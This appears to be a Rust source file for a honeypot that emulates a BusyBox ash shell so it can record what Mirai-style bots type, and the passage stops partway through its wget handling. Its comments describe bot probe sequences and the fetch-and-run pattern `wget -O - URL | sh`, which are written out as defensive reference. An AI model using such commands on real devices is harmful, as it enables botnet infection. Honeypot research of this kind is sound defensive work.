//! A BusyBox `ash` as bots and loaders see it, sans-IO: a line in, the
//! terminal's bytes out, with what the line asked for recorded. Nothing is
//! ever executed: every applet is emulated from the [`Deployment`]'s
//! persona and a per-session overlay of written files.
//!
//! Covers what Mirai-family scanners and loaders send (mirai/loader/src/
//! server.c and its descendants): `enable`/`system`/`shell`/`sh`,
//! `/bin/busybox TOKEN` answering `TOKEN: applet not found`, the
//! `echo -e '\x..' > DIR/.f; cat DIR/.f` writable-directory probe,
//! `cat /proc/mounts`, `cat /bin/echo` and `dd bs=52 count=1 if=/bin/echo`
//! (an ELF header of the persona's CPU), the `wget`/`tftp` presence probe
//! (usage texts), `cp`, `chmod`, `>file`, `rm`, `cd`, `ps`, `uname`,
//! lists with `;`, `&&`, `||`, `&` and pipes, redirections (`>`, `>>`,
//! `2>/dev/null`, `2>&1`). Anything else gets ash's `-sh: X: not found`.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use crate::extract::{self, Download};
use crate::persona::Deployment;

/// Most bytes of written files a session holds (more gets ENOSPC, as on a
/// small tmpfs).
pub const MAX_WRITTEN: usize = 1024 * 1024;
/// Most bytes a session writes in all, copies and rewrites included (more
/// gets ENOSPC): a loop of `cp` costs the client a few bytes a line and must
/// not cost the honeypot gigabytes of copying.
pub const MAX_WRITTEN_TOTAL: usize = 8 * 1024 * 1024;
/// Most files written a session keeps as samples after they were removed
/// or overwritten (bots delete their droppers at once).
const MAX_REMOVED: usize = 64;
/// Most bytes of output one line produces.
pub const MAX_OUTPUT: usize = 64 * 1024;
/// Most `sh -c` levels run (each level's text is inside the one above,
/// so the work stays bounded by the line).
const MAX_DEPTH: u8 = 8;
/// Most simple commands run from one line.
const MAX_COMMANDS_PER_LINE: usize = 256;

/// BusyBox applets the emulated build has (a typical embedded build).
const APPLETS: &[&str] = &[
    "ash", "cat", "cd", "chmod", "cp", "dd", "df", "echo", "false", "free", "ftpget", "grep",
    "head", "hostname", "id", "kill", "killall", "ls", "mkdir", "mount", "mv", "nc", "ps", "pwd",
    "rm", "sh", "sleep", "telnet", "tftp", "touch", "true", "uname", "uptime", "wc", "wget",
    "whoami", "printf", "exit", "logout", "export", "unset", "alias", "help", "which", "set",
    "ulimit", "umask", "trap", "type",
];

/// One simple command as the session records it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CommandRecord {
    /// The command's words joined by spaces.
    pub input: String,
    /// Whether the emulated device knows it (else Cowrie's
    /// `cowrie.command.failed`).
    pub known: bool,
}

/// What one line did.
#[derive(Debug, Default)]
pub struct LineOutcome {
    /// What the terminal shows (LF line ends; the session translates).
    pub output: Vec<u8>,
    /// Each simple command run.
    pub commands: Vec<CommandRecord>,
    /// Downloads and connections asked for.
    pub downloads: Vec<Download>,
    /// `exit` or `logout`: the session ends.
    pub exit: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Op {
    Seq,
    And,
    Or,
    Pipe,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Target {
    File(String),
    Fd(u8),
}

#[derive(Clone, Debug, PartialEq, Eq)]
struct Redir {
    fd: u8,
    append: bool,
    target: Target,
}

#[derive(Clone, Debug, Default, PartialEq, Eq)]
struct Simple {
    words: Vec<String>,
    redirs: Vec<Redir>,
}

/// Splits a line into simple commands, each with the operator after it
/// (POSIX sh quoting: single quotes literal, double quotes with `\`
/// escaping `"\$` and backquote, `\` outside quotes; `#` starts a comment
/// at a word's start).
fn parse(line: &str) -> Vec<(Simple, Op)> {
    let mut out = Vec::new();
    let mut cur = Simple::default();
    let mut word: Option<String> = None;
    let mut chars = line.chars().peekable();
    // A redirection waiting for its target word.
    let mut want_target: Option<(u8, bool)> = None;
    fn end_word(word: &mut Option<String>, cur: &mut Simple, want: &mut Option<(u8, bool)>) {
        if let Some(w) = word.take() {
            match want.take() {
                Some((fd, append)) => cur.redirs.push(Redir {
                    fd,
                    append,
                    target: Target::File(w),
                }),
                None => cur.words.push(w),
            }
        }
    }
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => end_word(&mut word, &mut cur, &mut want_target),
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                for d in chars.by_ref() {
                    if d == '\'' {
                        break;
                    }
                    w.push(d);
                }
            }
            '"' => {
                let w = word.get_or_insert_with(String::new);
                while let Some(d) = chars.next() {
                    match d {
                        '"' => break,
                        '\\' => match chars.peek() {
                            Some(&e @ ('"' | '\\' | '$' | '`')) => {
                                w.push(e);
                                chars.next();
                            }
                            _ => w.push('\\'),
                        },
                        _ => w.push(d),
                    }
                }
            }
            '\\' => {
                if let Some(d) = chars.next() {
                    word.get_or_insert_with(String::new).push(d);
                }
            }
            '#' if word.is_none() => break,
            ';' | '&' | '|' => {
                end_word(&mut word, &mut cur, &mut want_target);
                let op = match c {
                    '&' if chars.peek() == Some(&'&') => {
                        chars.next();
                        Op::And
                    }
                    '|' if chars.peek() == Some(&'|') => {
                        chars.next();
                        Op::Or
                    }
                    '|' => Op::Pipe,
                    _ => Op::Seq,
                };
                out.push((std::mem::take(&mut cur), op));
            }
            '>' | '<' => {
                // "2>" names the descriptor; any other word ends first.
                let fd = match &word {
                    Some(w) if c == '>' && w.len() == 1 && w.as_bytes()[0].is_ascii_digit() => {
                        let fd = w.as_bytes()[0] - b'0';
                        word = None;
                        fd
                    }
                    _ => {
                        end_word(&mut word, &mut cur, &mut want_target);
                        if c == '<' {
                            0
                        } else {
                            1
                        }
                    }
                };
                let mut append = false;
                if c == '>' && chars.peek() == Some(&'>') {
                    chars.next();
                    append = true;
                }
                if c == '>' && chars.peek() == Some(&'&') {
                    chars.next();
                    let mut n = String::new();
                    while let Some(&d) = chars.peek() {
                        if d.is_ascii_digit() {
                            n.push(d);
                            chars.next();
                        } else {
                            break;
                        }
                    }
                    cur.redirs.push(Redir {
                        fd,
                        append,
                        target: Target::Fd(n.parse().unwrap_or(1)),
                    });
                    continue;
                }
                want_target = Some((fd, append));
            }
            _ => word.get_or_insert_with(String::new).push(c),
        }
    }
    end_word(&mut word, &mut cur, &mut want_target);
    if !cur.words.is_empty() || !cur.redirs.is_empty() {
        out.push((cur, Op::Seq));
    }
    out
}

/// `NAME=value` with a shell identifier as the name.
fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && !name.starts_with(|c: char| c.is_ascii_digit())
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        }
        None => false,
    }
}

/// What `help` prints in BusyBox ash.
const ASH_HELP: &str = "\nBuilt-in commands:\n------------------\n\t. : [ [[ alias bg break cd chdir command continue echo eval exec\n\texit export false fg getopts hash help history jobs kill let\n\tlocal printf pwd read readonly return set shift source test times\n\ttrap true type ulimit umask unalias unset wait\n\n";

/// Files that exist in the persona's read-only directories besides its
/// own (for `ls`).
fn fixed_files(dir: &str) -> &'static [&'static str] {
    match dir {
        "/bin" => &[
            "ash", "busybox", "cat", "chmod", "cp", "date", "dd", "df", "echo", "grep", "kill",
            "ln", "ls", "mkdir", "mount", "mv", "ping", "ps", "pwd", "rm", "sh", "sleep", "touch",
            "umount", "uname",
        ],
        "/sbin" => &[
            "halt", "ifconfig", "init", "insmod", "lsmod", "reboot", "rmmod", "route",
        ],
        "/proc" => &[
            "1",
            "cmdline",
            "cpuinfo",
            "devices",
            "filesystems",
            "interrupts",
            "meminfo",
            "modules",
            "mounts",
            "net",
            "self",
            "stat",
            "sys",
            "uptime",
            "version",
        ],
        "/etc" => &[
            "group",
            "hostname",
            "hosts",
            "init.d",
            "inittab",
            "passwd",
            "profile",
            "resolv.conf",
            "services",
        ],
        "/dev" => &[
            "console",
            "mtd0",
            "mtd1",
            "mtdblock0",
            "mtdblock1",
            "null",
            "ptmx",
            "pts",
            "random",
            "tty",
            "urandom",
            "watchdog",
            "zero",
        ],
        _ => &[],
    }
}

/// Decodes `echo -e` / `printf` escapes (BusyBox `bb_process_escape_sequence`):
/// `\\ \a \b \e \f \n \r \t \v`, `\0NNN` and `\NNN` octal, `\xHH`; `\c`
/// stops the output (returned as `true`).
fn unescape(s: &str, out: &mut Vec<u8>) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'\\' || i + 1 == b.len() {
            out.push(b[i]);
            i += 1;
            continue;
        }
        let e = b[i + 1];
        i += 2;
        match e {
            b'\\' => out.push(b'\\'),
            b'a' => out.push(7),
            b'b' => out.push(8),
            b'e' => out.push(27),
            b'f' => out.push(12),
            b'n' => out.push(b'\n'),
            b'r' => out.push(b'\r'),
            b't' => out.push(b'\t'),
            b'v' => out.push(11),
            b'c' => return true,
            b'x' => {
                let mut v = 0u32;
                let mut n = 0;
                while n < 2 && i < b.len() && b[i].is_ascii_hexdigit() {
                    v = v * 16 + (b[i] as char).to_digit(16).unwrap_or(0);
                    i += 1;
                    n += 1;
                }
                if n == 0 {
                    out.extend_from_slice(b"\\x");
                } else {
                    out.push(v as u8);
                }
            }
            b'0'..=b'7' => {
                let mut v = (e - b'0') as u32;
                let max = if e == b'0' { 3 } else { 2 };
                let mut n = 0;
                while n < max && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
                    v = v * 8 + (b[i] - b'0') as u32;
                    i += 1;
                    n += 1;
                }
                out.push(v as u8);
            }
            _ => {
                out.push(b'\\');
                out.push(e);
            }
        }
    }
    false
}

/// A file a bot wrote.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct WrittenFile {
    /// Contents.
    pub bytes: Vec<u8>,
    /// chmod'ed executable.
    pub executable: bool,
}

/// One session's shell.
#[derive(Debug)]
pub struct Shell {
    dep: Arc<Deployment>,
    cwd: String,
    files: BTreeMap<String, WrittenFile>,
    made_dirs: BTreeSet<String>,
    written: usize,
    /// Bytes written in all (never decreases).
    written_total: usize,
    /// Contents of written files since removed or overwritten, at most
    /// [`MAX_REMOVED`] files and [`MAX_WRITTEN`] bytes.
    removed: Vec<(String, Vec<u8>)>,
    removed_bytes: usize,
    uptime: u64,
}

struct Io {
    out: Vec<u8>,
    err: Vec<u8>,
    status: i32,
}

impl Io {
    fn ok(out: Vec<u8>) -> Io {
        Io {
            out,
            err: Vec::new(),
            status: 0,
        }
    }
    fn fail(err: String, status: i32) -> Io {
        Io {
            out: Vec::new(),
            err: err.into_bytes(),
            status,
        }
    }
}

impl Shell {
    /// A shell on `dep` logged in as root, `uptime` seconds after boot.
    pub fn new(dep: Arc<Deployment>, uptime: u64) -> Self {
        Shell {
            dep,
            cwd: "/".into(),
            files: BTreeMap::new(),
            made_dirs: BTreeSet::new(),
            written: 0,
            written_total: 0,
            removed: Vec::new(),
            removed_bytes: 0,
            uptime,
        }
    }

    /// The prompt to show.
    pub fn prompt(&self) -> String {
        self.dep.persona.shell_prompt.clone()
    }

    /// Every file written this session (path, contents): those still there,
    /// and the last contents of those removed or overwritten since (within
    /// the bounds of [`MAX_REMOVED`] files and [`MAX_WRITTEN`] bytes).
    pub fn written_files(&self) -> Vec<(&str, &[u8])> {
        let mut out: Vec<(&str, &[u8])> = self
            .files
            .iter()
            .filter(|(_, f)| !f.bytes.is_empty())
            .map(|(p, f)| (p.as_str(), f.bytes.as_slice()))
            .collect();
        out.extend(self.removed.iter().map(|(p, b)| (p.as_str(), b.as_slice())));
        out
    }

    /// Keeps the contents of a file going away, within bounds.
    fn retire(&mut self, path: &str, bytes: Vec<u8>) {
        if bytes.is_empty()
            || self.removed.len() >= MAX_REMOVED
            || self.removed_bytes + bytes.len() > MAX_WRITTEN
        {
            return;
        }
        self.removed_bytes += bytes.len();
        self.removed.push((path.to_string(), bytes));
    }

    fn abs(&self, path: &str) -> String {
        let joined = if path.starts_with('/') {
            path.to_string()
        } else {
            format!("{}/{}", self.cwd.trim_end_matches('/'), path)
        };
        let mut parts: Vec<&str> = Vec::new();
        for p in joined.split('/') {
            match p {
                "" | "." => {}
                ".." => {
                    parts.pop();
                }
                p => parts.push(p),
            }
        }
        format!("/{}", parts.join("/"))
    }

    fn is_dir(&self, path: &str) -> bool {
        path == "/"
            || self.dep.persona.dirs.iter().any(|d| d == path)
            || self.made_dirs.contains(path)
    }

    fn writable(&self, path: &str) -> bool {
        self.dep
            .persona
            .writable
            .iter()
            .any(|w| path.starts_with(&format!("{}/", w.trim_end_matches('/'))))
    }

    fn parent(path: &str) -> &str {
        match path.rfind('/') {
            Some(0) => "/",
            Some(i) => &path[..i],
            None => "/",
        }
    }

    /// Writes `bytes` to `path` (appending or not); ash's message on failure.
    fn write(&mut self, path: &str, bytes: &[u8], append: bool) -> Result<(), String> {
        if path == "/dev/null" {
            return Ok(());
        }
        let p = self.abs(path);
        if !self.writable(&p) || !self.is_dir(Self::parent(&p)) {
            let why = if self.is_dir(Self::parent(&p)) {
                "Read-only file system"
            } else {
                "nonexistent directory"
            };
            return Err(format!("-sh: can't create {path}: {why}\n"));
        }
        if self.is_dir(&p) {
            return Err(format!("-sh: can't create {path}: Is a directory\n"));
        }
        let old = self.files.get(&p).map_or(0, |f| f.bytes.len());
        let new_len = if append {
            old + bytes.len()
        } else {
            bytes.len()
        };
        if self.written + new_len > MAX_WRITTEN + old
            || self.written_total + bytes.len() > MAX_WRITTEN_TOTAL
        {
            return Err("-sh: write error: No space left on device\n".into());
        }
        self.written = self.written + new_len - old;
        self.written_total += bytes.len();
        if !append && old > 0 {
            let before = self
                .files
                .get(&p)
                .map(|f| f.bytes.clone())
                .unwrap_or_default();
            self.retire(&p, before);
        }
        let f = self.files.entry(p).or_default();
        if !append {
            f.bytes.clear();
        }
        f.bytes.extend_from_slice(bytes);
        Ok(())
    }

    fn read(&self, path: &str) -> Result<Vec<u8>, String> {
        let p = self.abs(path);
        if let Some(f) = self.files.get(&p) {
            return Ok(f.bytes.clone());
        }
        let d = &self.dep;
        let pe = &d.persona;
        let text = match p.as_str() {
            "/proc/mounts" => pe.mounts.trim_start().to_string(),
            "/proc/cpuinfo" => pe.cpuinfo.trim_start().to_string(),
            "/proc/version" => format!(
                "Linux version {} (root@localhost) (gcc version 4.4.1) {}\n",
                pe.kernel, pe.kernel_build
            ),
            "/proc/uptime" => format!(
                "{}.{:02} {}.00\n",
                self.uptime,
                self.uptime % 97,
                self.uptime * 9 / 10
            ),
            "/etc/passwd" => "root:x:0:0:root:/root:/bin/sh\n".into(),
            "/proc/meminfo" => "MemTotal:          60484 kB\nMemFree:           22268 kB\nBuffers:            2356 kB\nCached:            14572 kB\nSwapCached:            0 kB\nActive:            17032 kB\nInactive:           6420 kB\nSwapTotal:             0 kB\nSwapFree:              0 kB\n".into(),
            "/etc/hostname" => format!("{}\n", d.hostname),
            "/bin/echo" | "/bin/busybox" | "/bin/sh" | "/bin/ls" | "/bin/cat" => {
                return Ok(d.echo_binary.clone())
            }
            _ if self.is_dir(&p) => return Err("cat: read error: Is a directory\n".to_string()),
            _ => {
                return Err(format!(
                    "cat: can't open '{path}': No such file or directory\n"
                ))
            }
        };
        Ok(text.into_bytes())
    }

    /// Runs one line.
    pub fn run_line(&mut self, line: &str) -> LineOutcome {
        let mut outcome = LineOutcome::default();
        self.run_into(line, &mut outcome, 0);
        outcome.output.truncate(MAX_OUTPUT);
        outcome
    }

    fn run_into(&mut self, line: &str, outcome: &mut LineOutcome, depth: u8) {
        let mut status = 0;
        let mut prev = Op::Seq;
        let mut stdin: Option<Vec<u8>> = None;
        for (n, (simple, op)) in parse(line).into_iter().enumerate() {
            if n >= MAX_COMMANDS_PER_LINE || outcome.exit {
                break;
            }
            let skip = match prev {
                Op::And => status != 0,
                Op::Or => status == 0,
                _ => false,
            };
            prev = op;
            if skip {
                continue;
            }
            let input = stdin.take();
            let io = self.simple(&simple, input, outcome, depth);
            status = io.status;
            let (out, err) = self.redirect(&simple.redirs, io.out, io.err);
            if op == Op::Pipe {
                stdin = Some(out);
                outcome.output.extend_from_slice(&err);
            } else {
                outcome.output.extend_from_slice(&out);
                outcome.output.extend_from_slice(&err);
            }
            if outcome.output.len() > MAX_OUTPUT {
                break;
            }
        }
    }

    /// Sends stdout and stderr where the redirections say; returns what
    /// still goes to the terminal (or the pipe).
    fn redirect(&mut self, redirs: &[Redir], out: Vec<u8>, err: Vec<u8>) -> (Vec<u8>, Vec<u8>) {
        // Where fd 1 and 2 go: None is the terminal.
        let mut dest: [Option<(String, bool)>; 3] = [None, None, None];
        for r in redirs {
            let fd = r.fd as usize;
            if fd == 0 || fd > 2 {
                continue;
            }
            dest[fd] = match &r.target {
                Target::File(f) => Some((f.clone(), r.append)),
                Target::Fd(k) if (*k as usize) < 3 => dest[*k as usize].clone(),
                Target::Fd(_) => None,
            };
        }
        let mut term_out = Vec::new();
        let mut term_err = Vec::new();
        for (fd, bytes) in [(1usize, out), (2, err)] {
            match &dest[fd] {
                None if fd == 1 => term_out = bytes,
                None => term_err.extend_from_slice(&bytes),
                Some((f, append)) => {
                    // `>file` truncates even with nothing written.
                    if let Err(e) = self.write(&f.clone(), &bytes, *append) {
                        term_err.extend_from_slice(e.as_bytes());
                    }
                }
            }
        }
        (term_out, term_err)
    }

    fn simple(
        &mut self,
        s: &Simple,
        stdin: Option<Vec<u8>>,
        outcome: &mut LineOutcome,
        depth: u8,
    ) -> Io {
        if s.words.is_empty() {
            return Io::ok(Vec::new());
        }
        outcome.downloads.extend(extract::downloads_in(&s.words));
        let input = s.words.join(" ");
        let mut w: &[String] = &s.words;
        // `VAR=value cmd`: the assignments are the command's environment.
        while w.first().is_some_and(|x| is_assignment(x)) {
            w = &w[1..];
        }
        if w.is_empty() {
            outcome.commands.push(CommandRecord { input, known: true });
            return Io::ok(Vec::new());
        }
        let mut via_busybox = false;
        while w.len() > 1 && w[0].rsplit('/').next() == Some("busybox") {
            w = &w[1..];
            via_busybox = true;
        }
        let name = w[0].as_str();
        let applet = name.rsplit('/').next().unwrap_or(name);
        if name.rsplit('/').next() == Some("busybox") {
            outcome.commands.push(CommandRecord { input, known: true });
            return Io::ok(
                format!("{} multi-call binary.\n", self.dep.persona.busybox).into_bytes(),
            );
        }
        let is_path = name.contains('/') && !via_busybox;
        let known_applet = APPLETS.contains(&applet)
            && (!is_path
                || name.starts_with("/bin/")
                || name.starts_with("/sbin/")
                || name.starts_with("/usr/bin/"));
        if is_path && !known_applet {
            outcome.commands.push(CommandRecord { input, known: true });
            return self.exec_path(name);
        }
        if !known_applet {
            let quiet = !via_busybox && self.dep.persona.quiet.iter().any(|q| q == applet);
            outcome.commands.push(CommandRecord {
                input,
                known: quiet,
            });
            if quiet {
                return Io::ok(Vec::new());
            }
            return if via_busybox {
                Io::fail(format!("{applet}: applet not found\n"), 127)
            } else {
                Io::fail(format!("-sh: {applet}: not found\n"), 127)
            };
        }
        outcome.commands.push(CommandRecord { input, known: true });
        self.applet(applet, &w[1..], stdin, outcome, depth)
    }

    fn exec_path(&self, name: &str) -> Io {
        let p = self.abs(name);
        match self.files.get(&p) {
            // Nothing runs: a daemonising bot shows nothing either.
            Some(f) if f.executable => Io::ok(Vec::new()),
            Some(_) => Io::fail(format!("-sh: {name}: Permission denied\n"), 126),
            None if self.is_dir(&p) => Io::fail(format!("-sh: {name}: Permission denied\n"), 126),
            None => Io::fail(format!("-sh: {name}: not found\n"), 127),
        }
    }

    fn applet(
        &mut self,
        applet: &str,
        args: &[String],
        stdin: Option<Vec<u8>>,
        outcome: &mut LineOutcome,
        depth: u8,
    ) -> Io {
        let pe = self.dep.persona.clone();
        match applet {
            "echo" => {
                let (mut newline, mut escapes, mut i) = (true, false, 0);
                while let Some(a) = args.get(i) {
                    if a.len() > 1 && a.starts_with('-') && a[1..].chars().all(|c| "neE".contains(c)) {
                        for c in a[1..].chars() {
                            match c {
                                'n' => newline = false,
                                'e' => escapes = true,
                                _ => escapes = false,
                            }
                        }
                        i += 1;
                    } else {
                        break;
                    }
                }
                let mut out = Vec::new();
                for (k, a) in args[i..].iter().enumerate() {
                    if k > 0 {
                        out.push(b' ');
                    }
                    if escapes {
                        if unescape(a, &mut out) {
                            return Io::ok(out);
                        }
                    } else {
                        out.extend_from_slice(a.as_bytes());
                    }
                }
                if newline {
                    out.push(b'\n');
                }
                Io::ok(out)
            }
            "printf" => {
                let mut out = Vec::new();
                if let Some(f) = args.first() {
                    let mut rest = args[1..].iter();
                    let f = f.replace("%s", "\u{1}");
                    let mut filled = String::new();
                    for c in f.chars() {
                        if c == '\u{1}' {
                            filled.push_str(rest.next().map_or("", |s| s.as_str()));
                        } else {
                            filled.push(c);
                        }
                    }
                    unescape(&filled, &mut out);
                }
                Io::ok(out)
            }
            "cat" => {
                if args.is_empty() {
                    return Io::ok(stdin.unwrap_or_default());
                }
                let mut io = Io::ok(Vec::new());
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    match self.read(a) {
                        Ok(b) => io.out.extend_from_slice(&b),
                        Err(e) => {
                            io.err.extend_from_slice(e.as_bytes());
                            io.status = 1;
                        }
                    }
                }
                io
            }
            "dd" => {
                let (mut input, mut bs, mut count, mut skip) = (None, 512usize, usize::MAX, 0usize);
                for a in args {
                    if let Some((k, v)) = a.split_once('=') {
                        let n = v.trim_end_matches(['k', 'K']).parse::<usize>().ok();
                        let mult = if v.ends_with(['k', 'K']) { 1024 } else { 1 };
                        match k {
                            "if" => input = Some(v.to_string()),
                            "bs" | "ibs" => bs = n.map_or(512, |n| n.saturating_mul(mult).clamp(1, MAX_OUTPUT)),
                            "count" => count = n.unwrap_or(usize::MAX),
                            "skip" => skip = n.unwrap_or(0),
                            _ => {}
                        }
                    }
                }
                let data = match input {
                    Some(f) => match self.read(&f) {
                        Ok(b) => b,
                        Err(_) => return Io::fail(format!("dd: can't open '{f}': No such file or directory\n"), 1),
                    },
                    None => stdin.unwrap_or_default(),
                };
                let start = skip.saturating_mul(bs).min(data.len());
                let end = start.saturating_add(bs.saturating_mul(count)).min(data.len()).min(start + MAX_OUTPUT);
                let out = data[start..end].to_vec();
                let full = out.len() / bs;
                let part = (out.len() % bs != 0) as usize;
                Io {
                    out,
                    err: format!("{full}+{part} records in\n{full}+{part} records out\n").into_bytes(),
                    status: 0,
                }
            }
            "cd" => {
                let target = args.first().map_or("/".to_string(), |a| self.abs(a));
                if self.is_dir(&target) {
                    self.cwd = target;
                    Io::ok(Vec::new())
                } else {
                    Io::fail(format!("-sh: cd: can't cd to {}\n", args.first().map_or("", |s| s.as_str())), 2)
                }
            }
            "pwd" => Io::ok(format!("{}\n", self.cwd).into_bytes()),
            "ls" => {
                let dir = args.iter().find(|a| !a.starts_with('-')).map_or(self.cwd.clone(), |a| self.abs(a));
                if !self.is_dir(&dir) {
                    return Io::fail(format!("ls: {dir}: No such file or directory\n"), 1);
                }
                let mut names: BTreeSet<String> = BTreeSet::new();
                let prefix = if dir == "/" { "/".to_string() } else { format!("{dir}/") };
                for f in fixed_files(&dir) {
                    names.insert((*f).to_string());
                }
                let dirs = pe.dirs.iter().chain(self.made_dirs.iter());
                for p in dirs.chain(self.files.keys()) {
                    if let Some(rest) = p.strip_prefix(&prefix) {
                        if !rest.is_empty() && !rest.contains('/') && !rest.starts_with('.') {
                            names.insert(rest.to_string());
                        }
                    }
                }
                let mut out = names.into_iter().collect::<Vec<_>>().join("  ");
                if !out.is_empty() {
                    out.push('\n');
                }
                Io::ok(out.into_bytes())
            }
            "mkdir" => {
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    let p = self.abs(a);
                    if self.writable(&p) && self.made_dirs.len() < 64 {
                        self.made_dirs.insert(p);
                    } else if !self.is_dir(&p) {
                        return Io::fail(format!("mkdir: can't create directory '{a}': Read-only file system\n"), 1);
                    }
                }
                Io::ok(Vec::new())
            }
            "touch" => {
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    let p = self.abs(a);
                    if !self.files.contains_key(&p) {
                        if let Err(e) = self.write(a, b"", true) {
                            return Io::fail(e.replace("-sh: can't create", "touch:"), 1);
                        }
                    }
                }
                Io::ok(Vec::new())
            }
            "rm" => {
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    let p = self.abs(a);
                    if let Some(f) = self.files.remove(&p) {
                        self.written -= f.bytes.len();
                        self.retire(&p, f.bytes);
                    } else if !args.iter().any(|a| a.starts_with('-') && a.contains('f')) {
                        return Io::fail(format!("rm: can't remove '{a}': No such file or directory\n"), 1);
                    }
                }
                Io::ok(Vec::new())
            }
            "cp" | "mv" => {
                let pos: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
                let [src, dst] = pos.as_slice() else {
                    return Io::fail(format!("BusyBox: {applet}: missing file operand\n"), 1);
                };
                let bytes = match self.read(src) {
                    Ok(b) => b,
                    Err(_) => return Io::fail(format!("{applet}: can't stat '{src}': No such file or directory\n"), 1),
                };
                let executable = src.starts_with("/bin/") || self.files.get(&self.abs(src)).is_some_and(|f| f.executable);
                let mut dst_path = self.abs(dst);
                if self.is_dir(&dst_path) {
                    dst_path = format!("{}/{}", dst_path.trim_end_matches('/'), src.rsplit('/').next().unwrap_or(src));
                }
                if let Err(e) = self.write(&dst_path, &bytes, false) {
                    return Io::fail(e.replace("-sh: can't create", &format!("{applet}: can't create")), 1);
                }
                if let Some(f) = self.files.get_mut(&dst_path) {
                    f.executable = executable;
                }
                if applet == "mv" {
                    let s = self.abs(src);
                    if let Some(f) = self.files.remove(&s) {
                        self.written -= f.bytes.len();
                    }
                }
                Io::ok(Vec::new())
            }
            "chmod" => {
                let mode = args.iter().find(|a| !a.starts_with('-')).cloned().unwrap_or_default();
                let exec = mode.contains('x') || mode.chars().last().is_some_and(|c| matches!(c, '1' | '3' | '5' | '7'));
                for a in args.iter().filter(|a| !a.starts_with('-')).skip(1) {
                    let p = self.abs(a);
                    if let Some(f) = self.files.get_mut(&p) {
                        f.executable = exec;
                    } else if !self.is_dir(&p) && self.read(a).is_err() {
                        return Io::fail(format!("chmod: {a}: No such file or directory\n"), 1);
                    }
                }
                Io::ok(Vec::new())
            }
            "ps" => {
                let mut out = String::from("  PID USER       VSZ STAT COMMAND\n");
                for (pid, cmd) in &self.dep.processes {
                    let kernel = cmd.starts_with('[');
                    let vsz = if kernel { "0".to_string() } else { format!("{}", 900 + (pid * 37) % 4000) };
                    out.push_str(&format!("{pid:>5} root     {vsz:>5} {:<4} {cmd}\n", if kernel { "SW" } else { "S" }));
                }
                Io::ok(out.into_bytes())
            }
            "uname" => {
                let d = &self.dep;
                let fields = [
                    ('s', "Linux".to_string()),
                    ('n', d.hostname.clone()),
                    ('r', pe.kernel.clone()),
                    ('v', pe.kernel_build.clone()),
                    ('m', pe.arch.clone()),
                ];
                let flags: String = args.iter().filter(|a| a.starts_with('-')).flat_map(|a| a[1..].chars()).collect();
                let all = flags.contains('a');
                let mut parts: Vec<String> = fields
                    .iter()
                    .filter(|(f, _)| all || flags.contains(*f))
                    .map(|(_, v)| v.clone())
                    .collect();
                if parts.is_empty() {
                    parts.push("Linux".into());
                }
                if all {
                    parts.push("GNU/Linux".into());
                }
                Io::ok(format!("{}\n", parts.join(" ")).into_bytes())
            }
            "id" => Io::ok(b"uid=0(root) gid=0(root)\n".to_vec()),
            "whoami" => Io::ok(b"root\n".to_vec()),
            "hostname" => Io::ok(format!("{}\n", self.dep.hostname).into_bytes()),
            "uptime" => {
                let days = self.uptime / 86_400;
                let hm = (self.uptime % 86_400) / 60;
                Io::ok(format!(" {:02}:{:02}:{:02} up {days} days, {:>2}:{:02},  load average: 0.08, 0.03, 0.01\n", (hm / 60 + 3) % 24, hm % 60, self.uptime % 60, hm / 60, hm % 60).into_bytes())
            }
            "free" => Io::ok(b"              total         used         free       shared      buffers\nMem:         60484        38216        22268            0         2356\n-/+ buffers:              35860        24624\nSwap:            0            0            0\n".to_vec()),
            "df" => Io::ok(b"Filesystem           1K-blocks      Used Available Use% Mounted on\n/dev/root                 5888      5888         0 100% /\ntmpfs                    30240        40     30200   0% /tmp\n".to_vec()),
            "grep" => {
                let pat = args.iter().find(|a| !a.starts_with('-')).cloned().unwrap_or_default();
                let text = stdin.unwrap_or_default();
                let mut out = Vec::new();
                for l in text.split_inclusive(|&b| b == b'\n') {
                    if l.windows(pat.len().max(1)).any(|w| w == pat.as_bytes()) || pat.is_empty() {
                        out.extend_from_slice(l);
                    }
                }
                let status = if out.is_empty() { 1 } else { 0 };
                Io { out, err: Vec::new(), status }
            }
            "head" => {
                let text = stdin.unwrap_or_default();
                // -c N: bytes.
                if let Some(i) = args.iter().position(|a| a == "-c") {
                    let n = args.get(i + 1).and_then(|v| v.parse::<usize>().ok()).unwrap_or(0);
                    return Io::ok(text[..n.min(text.len())].to_vec());
                }
                let n = args.iter().find_map(|a| a.trim_start_matches('-').trim_start_matches('n').parse::<usize>().ok()).unwrap_or(10);
                Io::ok(text.split_inclusive(|&b| b == b'\n').take(n).flatten().copied().collect())
            }
            "wc" => {
                let text = stdin.unwrap_or_default();
                Io::ok(format!("{}\n", text.iter().filter(|&&b| b == b'\n').count()).into_bytes())
            }
            "sh" | "ash" => {
                if let (Some("-c"), Some(cmd)) = (args.first().map(|s| s.as_str()), args.get(1)) {
                    if depth < MAX_DEPTH {
                        self.run_into(cmd, outcome, depth + 1);
                    }
                } else if let Some(script) = stdin.filter(|_| depth < MAX_DEPTH) {
                    // `wget -O - URL | sh`: the script's lines are what it asks.
                    let text = String::from_utf8_lossy(&script).into_owned();
                    for l in text.lines().take(64) {
                        self.run_into(l, outcome, depth + 1);
                    }
                }
                Io::ok(Vec::new())
            }
            "wget" => {
                if args.iter().all(|a| a.starts_with('-')) {
